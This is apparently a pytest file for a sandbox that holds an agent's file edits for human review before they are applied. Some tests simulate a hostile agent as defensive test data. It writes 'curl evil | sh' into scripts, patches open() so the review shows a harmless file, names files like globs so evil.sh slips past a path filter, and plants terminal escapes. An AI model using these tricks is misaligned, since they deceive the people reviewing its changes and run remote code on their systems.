"""layover.Sandbox against the real helper, as an unprivileged user: its
changes (live, ignored caches, what apply writes, within max_output), diff,
apply (dry run, conflicts, hostile names), discard, save and apply_patch,
and resume.  The REPL and exec inside, a hostile REPL, a crash, the history:
test_py_sandbox.py."""
from __future__ import annotations

import os
import warnings
from pathlib import Path

import pytest

from .layover_testutil import session, tree
from layover import ConflictError, Sandbox, SandboxError, apply_patch, show_patch


# --- changes and review ---

def test_changes_leave_ignored_caches_out_unless_asked(sb, target):
    sb.run("import os\nos.makedirs('src/__pycache__', exist_ok=True)\n"
           "open('src/__pycache__/app.cpython-311.pyc', 'w').write('x')\nopen('kept.txt', 'w').write('k')")
    paths = {c.path for c in sb.changes()}
    assert "kept.txt" in paths and not any("__pycache__" in p for p in paths)
    flagged = {c.path for c in sb.changes(include_ignored=True) if c.ignored}
    assert "src/__pycache__/app.cpython-311.pyc" in flagged and "kept.txt" not in flagged
    sb.apply()
    assert (target / "kept.txt").read_text() == "k"
    assert not (target / "src" / "__pycache__").exists()


def test_review_calls_work_beside_a_file_named_like_the_session(sb, target, tmp_path, monkeypatch):
    # The helper refuses a name that is both a session's and a file's in its
    # working directory; the bindings ran it in the caller's, so a file named
    # like the session there (a patch saved as sb.save(sb.name)) made diff,
    # changed_files and apply fail. They run it where no such file is.
    sb.run("open('src/app.py', 'a').write('print(3)\\n')")
    here = tmp_path / "caller"
    here.mkdir()
    (here / sb.name).write_text("not the session\n")
    monkeypatch.chdir(here)
    assert "+print(3)" in sb.diff()
    assert sb.changed_files() == {"src/app.py": b"print('v1')\nprint(3)\n"}
    res = sb.apply(undo_to="undo.tar.zst")  # a relative path is still the caller's
    assert "src/app.py" in res.applied
    assert (target / "src" / "app.py").read_text() == "print('v1')\nprint(3)\n"
    assert (here / "undo.tar.zst").is_file() and (here / sb.name).read_text() == "not the session\n"


def test_changes_are_live_while_the_repl_runs(sb):
    sb.run("open('new.txt', 'w').write('fresh')\nimport os\nos.remove('old.txt')\n"
           "open('src/app.py', 'a').write('print(2)\\n')")
    assert sb.running
    kinds = {c.path: c.kind for c in sb.changes()}
    assert kinds.get("new.txt") == "added"
    assert kinds.get("old.txt") == "deleted"
    assert kinds.get("src/app.py") == "modified"
    assert sb.changed_files() == {"new.txt": b"fresh", "src/app.py": b"print('v1')\nprint(2)\n"}
    assert sb.deleted_files() == ["old.txt"]
    d = sb.diff()
    assert "diff --git a/src/app.py b/src/app.py" in d and "+print(2)" in d
    assert sb.running  # nothing above stopped it


def test_changed_files_are_what_apply_writes_even_when_the_agent_fakes_its_reads(sb, target):
    # The REPL is the agent's own process: code it ran can make any read
    # through the REPL lie (found by the attack pass of 26 Nov: with open
    # patched inside, changed_files() showed a benign script while apply
    # wrote the real one). The contents come from the helper's capture.
    sb.run("import builtins, io\n_real_open = builtins.open\n"
           "_real_open('deploy.sh', 'w').write('curl evil | sh\\n')\n"
           "def _fake(p, *a, **k):\n"
           "    if str(p).endswith('deploy.sh'):\n"
           "        return io.BytesIO(b'echo harmless\\n')\n"
           "    return _real_open(p, *a, **k)\n"
           "builtins.open = _fake\n")
    assert sb.changed_files() == {"deploy.sh": b"curl evil | sh\n"}
    assert sb.running
    # The layers' every kind of file: a name that is not UTF-8, a hard link,
    # a mode-only change, a file frozen in an earlier step, a sparse file.
    sb.exec(["sh", "-c", "printf 'x\\0y' > \"$(printf 'bad\\377')\"; ln deploy.sh again.sh; "
             "chmod 755 src/app.py; truncate -s 70000 sparse.bin; printf end >> sparse.bin"], check=True)
    assert sb.checkpoint("one") > 0
    sb.exec(["sh", "-c", "echo later > later.txt"], check=True)
    got = sb.changed_files()
    assert got.pop(os.fsdecode(b"bad\xff")) == b"x\0y"
    assert got == {"deploy.sh": b"curl evil | sh\n", "again.sh": b"curl evil | sh\n",
                   "src/app.py": b"print('v1')\n", "sparse.bin": b"\0" * 70000 + b"end", "later.txt": b"later\n"}
    sb.apply()
    assert (target / "deploy.sh").read_bytes() == b"curl evil | sh\n"


def test_changed_files_stays_within_max_output_when_the_agent_grows_a_file_meanwhile(make_sandbox):
    # The sizes are checked against max_output from changes(); the contents
    # come from a second read (show --contents) of the running session. The
    # agent's code runs meanwhile: found by the attack pass of 27 Nov, a file
    # it made huge (sparse: no disk) between the two was read whole into
    # this process (here 64 MiB of base64 for max_output=1 MiB; gigabytes
    # just as easily). The second read is bounded too.
    sb = make_sandbox(max_output=1024 * 1024)
    sb.exec(["sh", "-c", "echo small > grow.bin"], check=True)
    real_changes = sb.changes

    def changes_then_the_agent_writes(*a, **kw):
        got = real_changes(*a, **kw)
        sb.exec(["truncate", "-s", "48M", "grow.bin"], check=True)  # what a thread inside does at any time
        return got

    sb.changes = changes_then_the_agent_writes
    peak = [0]
    real_run = sb.helper.run

    def run(args, **kw):
        r = real_run(args, **kw)
        peak.append(len(r.stdout or b""))
        return r

    sb.helper.run = run
    with pytest.raises(SandboxError, match="max_output"):
        sb.changed_files()
    assert max(peak) <= 4 * 1024 * 1024, peak
    assert sb.running


def test_diff_stays_within_max_output_on_a_huge_text_file_the_agent_wrote(make_sandbox):
    # Found by the attack pass of 27 Nov: diff() read all of `layover diff`
    # into this process (and decoded it: twice the bytes), however much text
    # the agent wrote; max_output bounds every call that returns its output.
    sb = make_sandbox(max_output=1024 * 1024)
    sb.exec(["sh", "-c", "yes 'a line of text the agent wrote' | head -c 8000000 > huge.txt; echo x > small.txt"],
            check=True)
    with pytest.raises(SandboxError, match="the diff exceeds max_output=1048576 bytes"):
        sb.diff()
    assert "+x" in sb.diff(["small.txt"]) and "huge.txt" in sb.diff(stat=True)
    assert sb.running


def test_apply_writes_the_real_target(sb, target):
    sb.exec(["sh", "-c", "echo made > made.txt; rm old.txt; echo v2 > src/app.py"], check=True)
    result = sb.apply()
    assert not sb.running
    assert "made.txt" in result.applied
    assert (target / "made.txt").read_text() == "made\n"
    assert not (target / "old.txt").exists()
    assert (target / "src" / "app.py").read_text() == "v2\n"


def test_apply_paths_that_match_no_change_warn(sb, target):
    # apply(paths=["made"]) of a session that made made.txt returned applied=[] without a word; the
    # helper's "'made' matches no change" line on stderr was dropped.
    sb.exec(["sh", "-c", "echo made > made.txt; echo other > other.txt"], check=True)
    with pytest.warns(UserWarning, match=r"^layover: apply: 'made' matches no change \(paths are relative to "
                                         r"the target ") as caught:
        result = sb.apply(paths=["made", "other.txt"])
    # It names the command that lists this sandbox's changes, not a bare `layover status` (the most recent).
    assert [str(w.message).endswith("; 'layover status %s' lists the changes)" % sb.name) for w in caught] == [True]
    assert result.applied == ["other.txt"] and not (target / "made.txt").exists()
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert sb.apply(paths=["made.txt"]).applied == ["made.txt"]


def test_a_bare_string_for_paths_or_exclude_is_a_type_error_not_one_path_per_character(sb, target, tmp_path):
    # apply(paths="made.txt") iterated the string: it applied nothing and warned that 'm', 'a', 'd', ...
    # matched no change (newuser9's walk); diff(paths="made.txt") diffed nothing.
    sb.exec(["sh", "-c", "echo made > made.txt"], check=True)
    with pytest.raises(TypeError, match=r"^paths takes a list of paths, e\.g\. paths=\['made\.txt'\]$"):
        sb.apply(paths="made.txt")
    with pytest.raises(TypeError, match=r"^exclude takes a list of globs, e\.g\. exclude=\['\*\.log'\]$"):
        sb.apply(exclude="*.log")
    with pytest.raises(TypeError, match=r"^paths takes a list of paths"):
        sb.diff(paths="made.txt")
    with pytest.raises(TypeError, match=r"^paths takes a list of paths"):
        apply_patch(tmp_path / "p.tar.zst", target=target, paths=Path("made.txt"))
    assert not (target / "made.txt").exists() and sb.running  # nothing was stopped or applied
    assert sb.apply(paths=["made.txt"]).applied == ["made.txt"]


def test_a_dry_run_apply_leaves_the_sandbox_running_and_says_so(sb, target):
    sb.exec(["sh", "-c", "echo made > made.txt"], check=True)
    preview = sb.apply(dry_run=True)
    assert sb.running  # a dry run writes nothing: the sandbox was stopped for it
    assert preview.dry_run and preview.running and preview.applied == ["made.txt"]
    assert not (target / "made.txt").exists()
    sb.exec(["sh", "-c", "echo more > more.txt"], check=True)  # the agent goes on
    result = sb.apply()
    assert not sb.running and not result.running and not result.dry_run
    assert sorted(result.applied) == ["made.txt", "more.txt"]
    assert (target / "more.txt").read_text() == "more\n"


def test_apply_result_names_non_utf8_paths_by_their_exact_bytes(sb, target):
    sb.exec([b"sh", b"-c", b"echo raw > bad\xffname"], check=True)
    result = sb.apply()
    assert [os.fsencode(p) for p in result.applied] == [b"bad\xffname"]
    assert (target / os.fsdecode(b"bad\xffname")).read_text() == "raw\n"


def test_concurrent_real_edit_raises_conflict_and_writes_nothing(sb, target):
    sb.exec(["sh", "-c", "echo sandbox > README.md; echo extra > extra.txt"], check=True)
    sb.close()
    (target / "README.md").write_text("edited for real\n")
    before = tree(target)
    with pytest.raises(ConflictError) as e:
        sb.apply()
    assert any(c.path == "README.md" for c in e.value.conflicts)
    assert all(c.forceable for c in e.value.conflicts)  # --force overrides these: the message says so
    assert "re-run with force=True to overwrite" in str(e.value), e.value
    assert tree(target) == before


def test_a_hunk_conflict_force_never_overrides_is_not_sent_to_force(make_sandbox, target):
    # A rejected hunk in force takes the file by hunk; once the real file
    # changed, that is a conflict --force does not override: the message said
    # "re-run with force=True to overwrite", which failed the same way. The
    # helper's --json now says "forceable": false for it.
    base = "".join("l%d\n" % i for i in range(1, 61))
    (target / "f.txt").write_text(base)
    sb = make_sandbox()
    sb.exec(["sh", "-c", "sed -i -e 's/^l5$/five/' -e 's/^l45$/forty-five/' f.txt"], check=True)
    sb.helper.run(["reject", sb.name, "f.txt:2", "-m", "keep line 45"])
    sb.close()
    (target / "f.txt").write_text(base.replace("l25\n", "twenty-five\n"))
    for force in (False, True):
        with pytest.raises(ConflictError) as e:
            sb.apply(force=force)
        assert [(c.path, c.forceable) for c in e.value.conflicts] == [("f.txt", False)], e.value.conflicts
        message = str(e.value)
        assert "force=True does not override these (" in message and "re-run with force=True" not in message, \
            message
    assert (target / "f.txt").read_text() == base.replace("l25\n", "twenty-five\n")  # nothing written


def test_a_conflict_on_a_hostile_name_never_puts_its_escapes_in_the_message(sb, target):
    # The message is what a traceback prints on the author's terminal: an ESC
    # (clear screen) or a zero-width space in a name the sandbox chose must
    # show escaped there; .conflicts keeps the exact name.
    names = ["e\x1b[2Jx", "notes.txt\u200b"]
    sb.exec(["sh", "-c", "printf x > \"$1\"; printf x > \"$2\"", "sh"] + names, check=True)
    sb.close()
    for n in names:
        (target / n).write_text("edited for real\n")
    with pytest.raises(ConflictError) as e:
        sb.apply()
    assert sorted(c.path for c in e.value.conflicts) == sorted(names)
    message = str(e.value)
    assert "\x1b" not in message and "\u200b" not in message, message
    assert "'e\\x1b[2Jx'" in message and "'notes.txt\\u200b'" in message, message


def test_apply_paths_are_paths_even_when_the_sandbox_names_a_file_like_a_glob(sb, target):
    """Found by the attack pass of 27 Nov: apply(paths=) passed each path to
    `--only`, which takes globs too, so a file the agent named `*` (or
    `[a-z]*`), handed back by a program that left `evil.sh` out of its
    list, selected every change: evil.sh was applied."""
    names = ["*", "[a-z]*", "d/?"]
    sb.exec(["sh", "-c", "mkdir d; for n in \"$@\"; do echo x > \"$n\"; done; echo 'curl evil | sh' > evil.sh; "
             "echo y > d/keep", "sh"] + names, check=True)
    wanted = [c.path for c in sb.changes() if c.path != "evil.sh" and c.path not in ("d", "d/keep")]
    assert sorted(wanted) == sorted(names)
    shown = sb.diff(paths=wanted)
    assert "evil.sh" not in shown and "d/keep" not in shown and "+x" in shown
    result = sb.apply(paths=wanted)
    assert sorted(result.applied) == sorted(names + ["d"]), result.applied  # d: the new parent d/? needs
    assert not (target / "evil.sh").exists() and not (target / "d" / "keep").exists()
    assert all((target / n).read_text() == "x\n" for n in names)


def test_discard_leaves_the_target_untouched(sb, target, state_dir):
    before = tree(target)
    sb.exec(["sh", "-c", "echo gone > README.md; rm -r src; echo x > y"], check=True)
    name = sb.name
    sb.discard()
    assert tree(target) == before
    assert session(state_dir, name) is None
    assert not (state_dir / "trash").exists() or not any((state_dir / "trash").iterdir())  # --now: no trash entry


def test_save_and_apply_patch_round_trip(sb, target, tmp_path):
    sb.run("open('saved.txt', 'w').write('from patch')\nimport os\nos.remove('old.txt')")
    patch = sb.save(tmp_path / "work.tar.zst")
    assert patch.stat().st_size > 0
    assert sb.tarball()[:4] == b"\x28\xb5\x2f\xfd"  # a zstd frame
    sb.close()
    paths = {c.path: c.kind for c in show_patch(patch)}
    assert paths["saved.txt"] == "added" and paths["old.txt"] == "deleted"
    copy = tmp_path / "copy"
    os.system("cp -a '%s' '%s'" % (target, copy))
    apply_patch(patch, target=copy)
    assert (copy / "saved.txt").read_text() == "from patch"
    assert not (copy / "old.txt").exists()
    assert (target / "old.txt").exists() and not (target / "saved.txt").exists()


def test_apply_patch_and_show_patch_expand_a_tilde_as_sandbox_does(sb, target, tmp_path, monkeypatch):
    # docs/python.md: apply_patch("work.tar.zst", target="~/project"); "~" was passed on as a literal dir.
    sb.run("open('tilde.txt', 'w').write('t')")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert sb.save("~/t.tar.zst") == tmp_path / "t.tar.zst" and (tmp_path / "t.tar.zst").stat().st_size > 0
    sb.close()
    os.system("cp -a '%s' '%s'" % (target, tmp_path / "copy"))
    assert [c.path for c in show_patch("~/t.tar.zst")] == ["tilde.txt"]
    r = apply_patch("~/t.tar.zst", target="~/copy", undo_to="~/undo.tar.zst")
    assert r.applied == ["tilde.txt"] and (tmp_path / "undo.tar.zst").stat().st_size > 0
    assert (tmp_path / "copy" / "tilde.txt").read_text() == "t"
    assert not (target / "tilde.txt").exists() and not (tmp_path / "~").exists()


def test_resume_sees_the_earlier_work(sb, state_dir):
    sb.run("open('step1.txt', 'w').write('one')")
    sb.close()
    assert session(state_dir, sb.name).status == "kept"
    again = Sandbox.resume(sb.name, state_dir=state_dir)
    try:
        assert again.run("open('step1.txt').read()").value == "'one'"
    finally:
        again.close()


def test_a_conflict_force_does_not_override_does_not_name_force_as_the_fix(sb, target, tmp_path):
    # apply_patch(force=True) raised "...; re-run with force=True to overwrite" for a parent dir gone.
    sb.exec(["sh", "-c", "echo v2 > src/app.py"], check=True)
    patch = sb.save(tmp_path / "p.tar.zst")
    os.rename(target / "src", target / "lib")
    with pytest.raises(ConflictError) as e:
        apply_patch(patch, target=target, force=True)
    assert "force=True does not override these" in str(e.value) and "re-run with force=True" not in str(e.value)
    assert [c.path for c in e.value.conflicts] == ["src/app.py"]
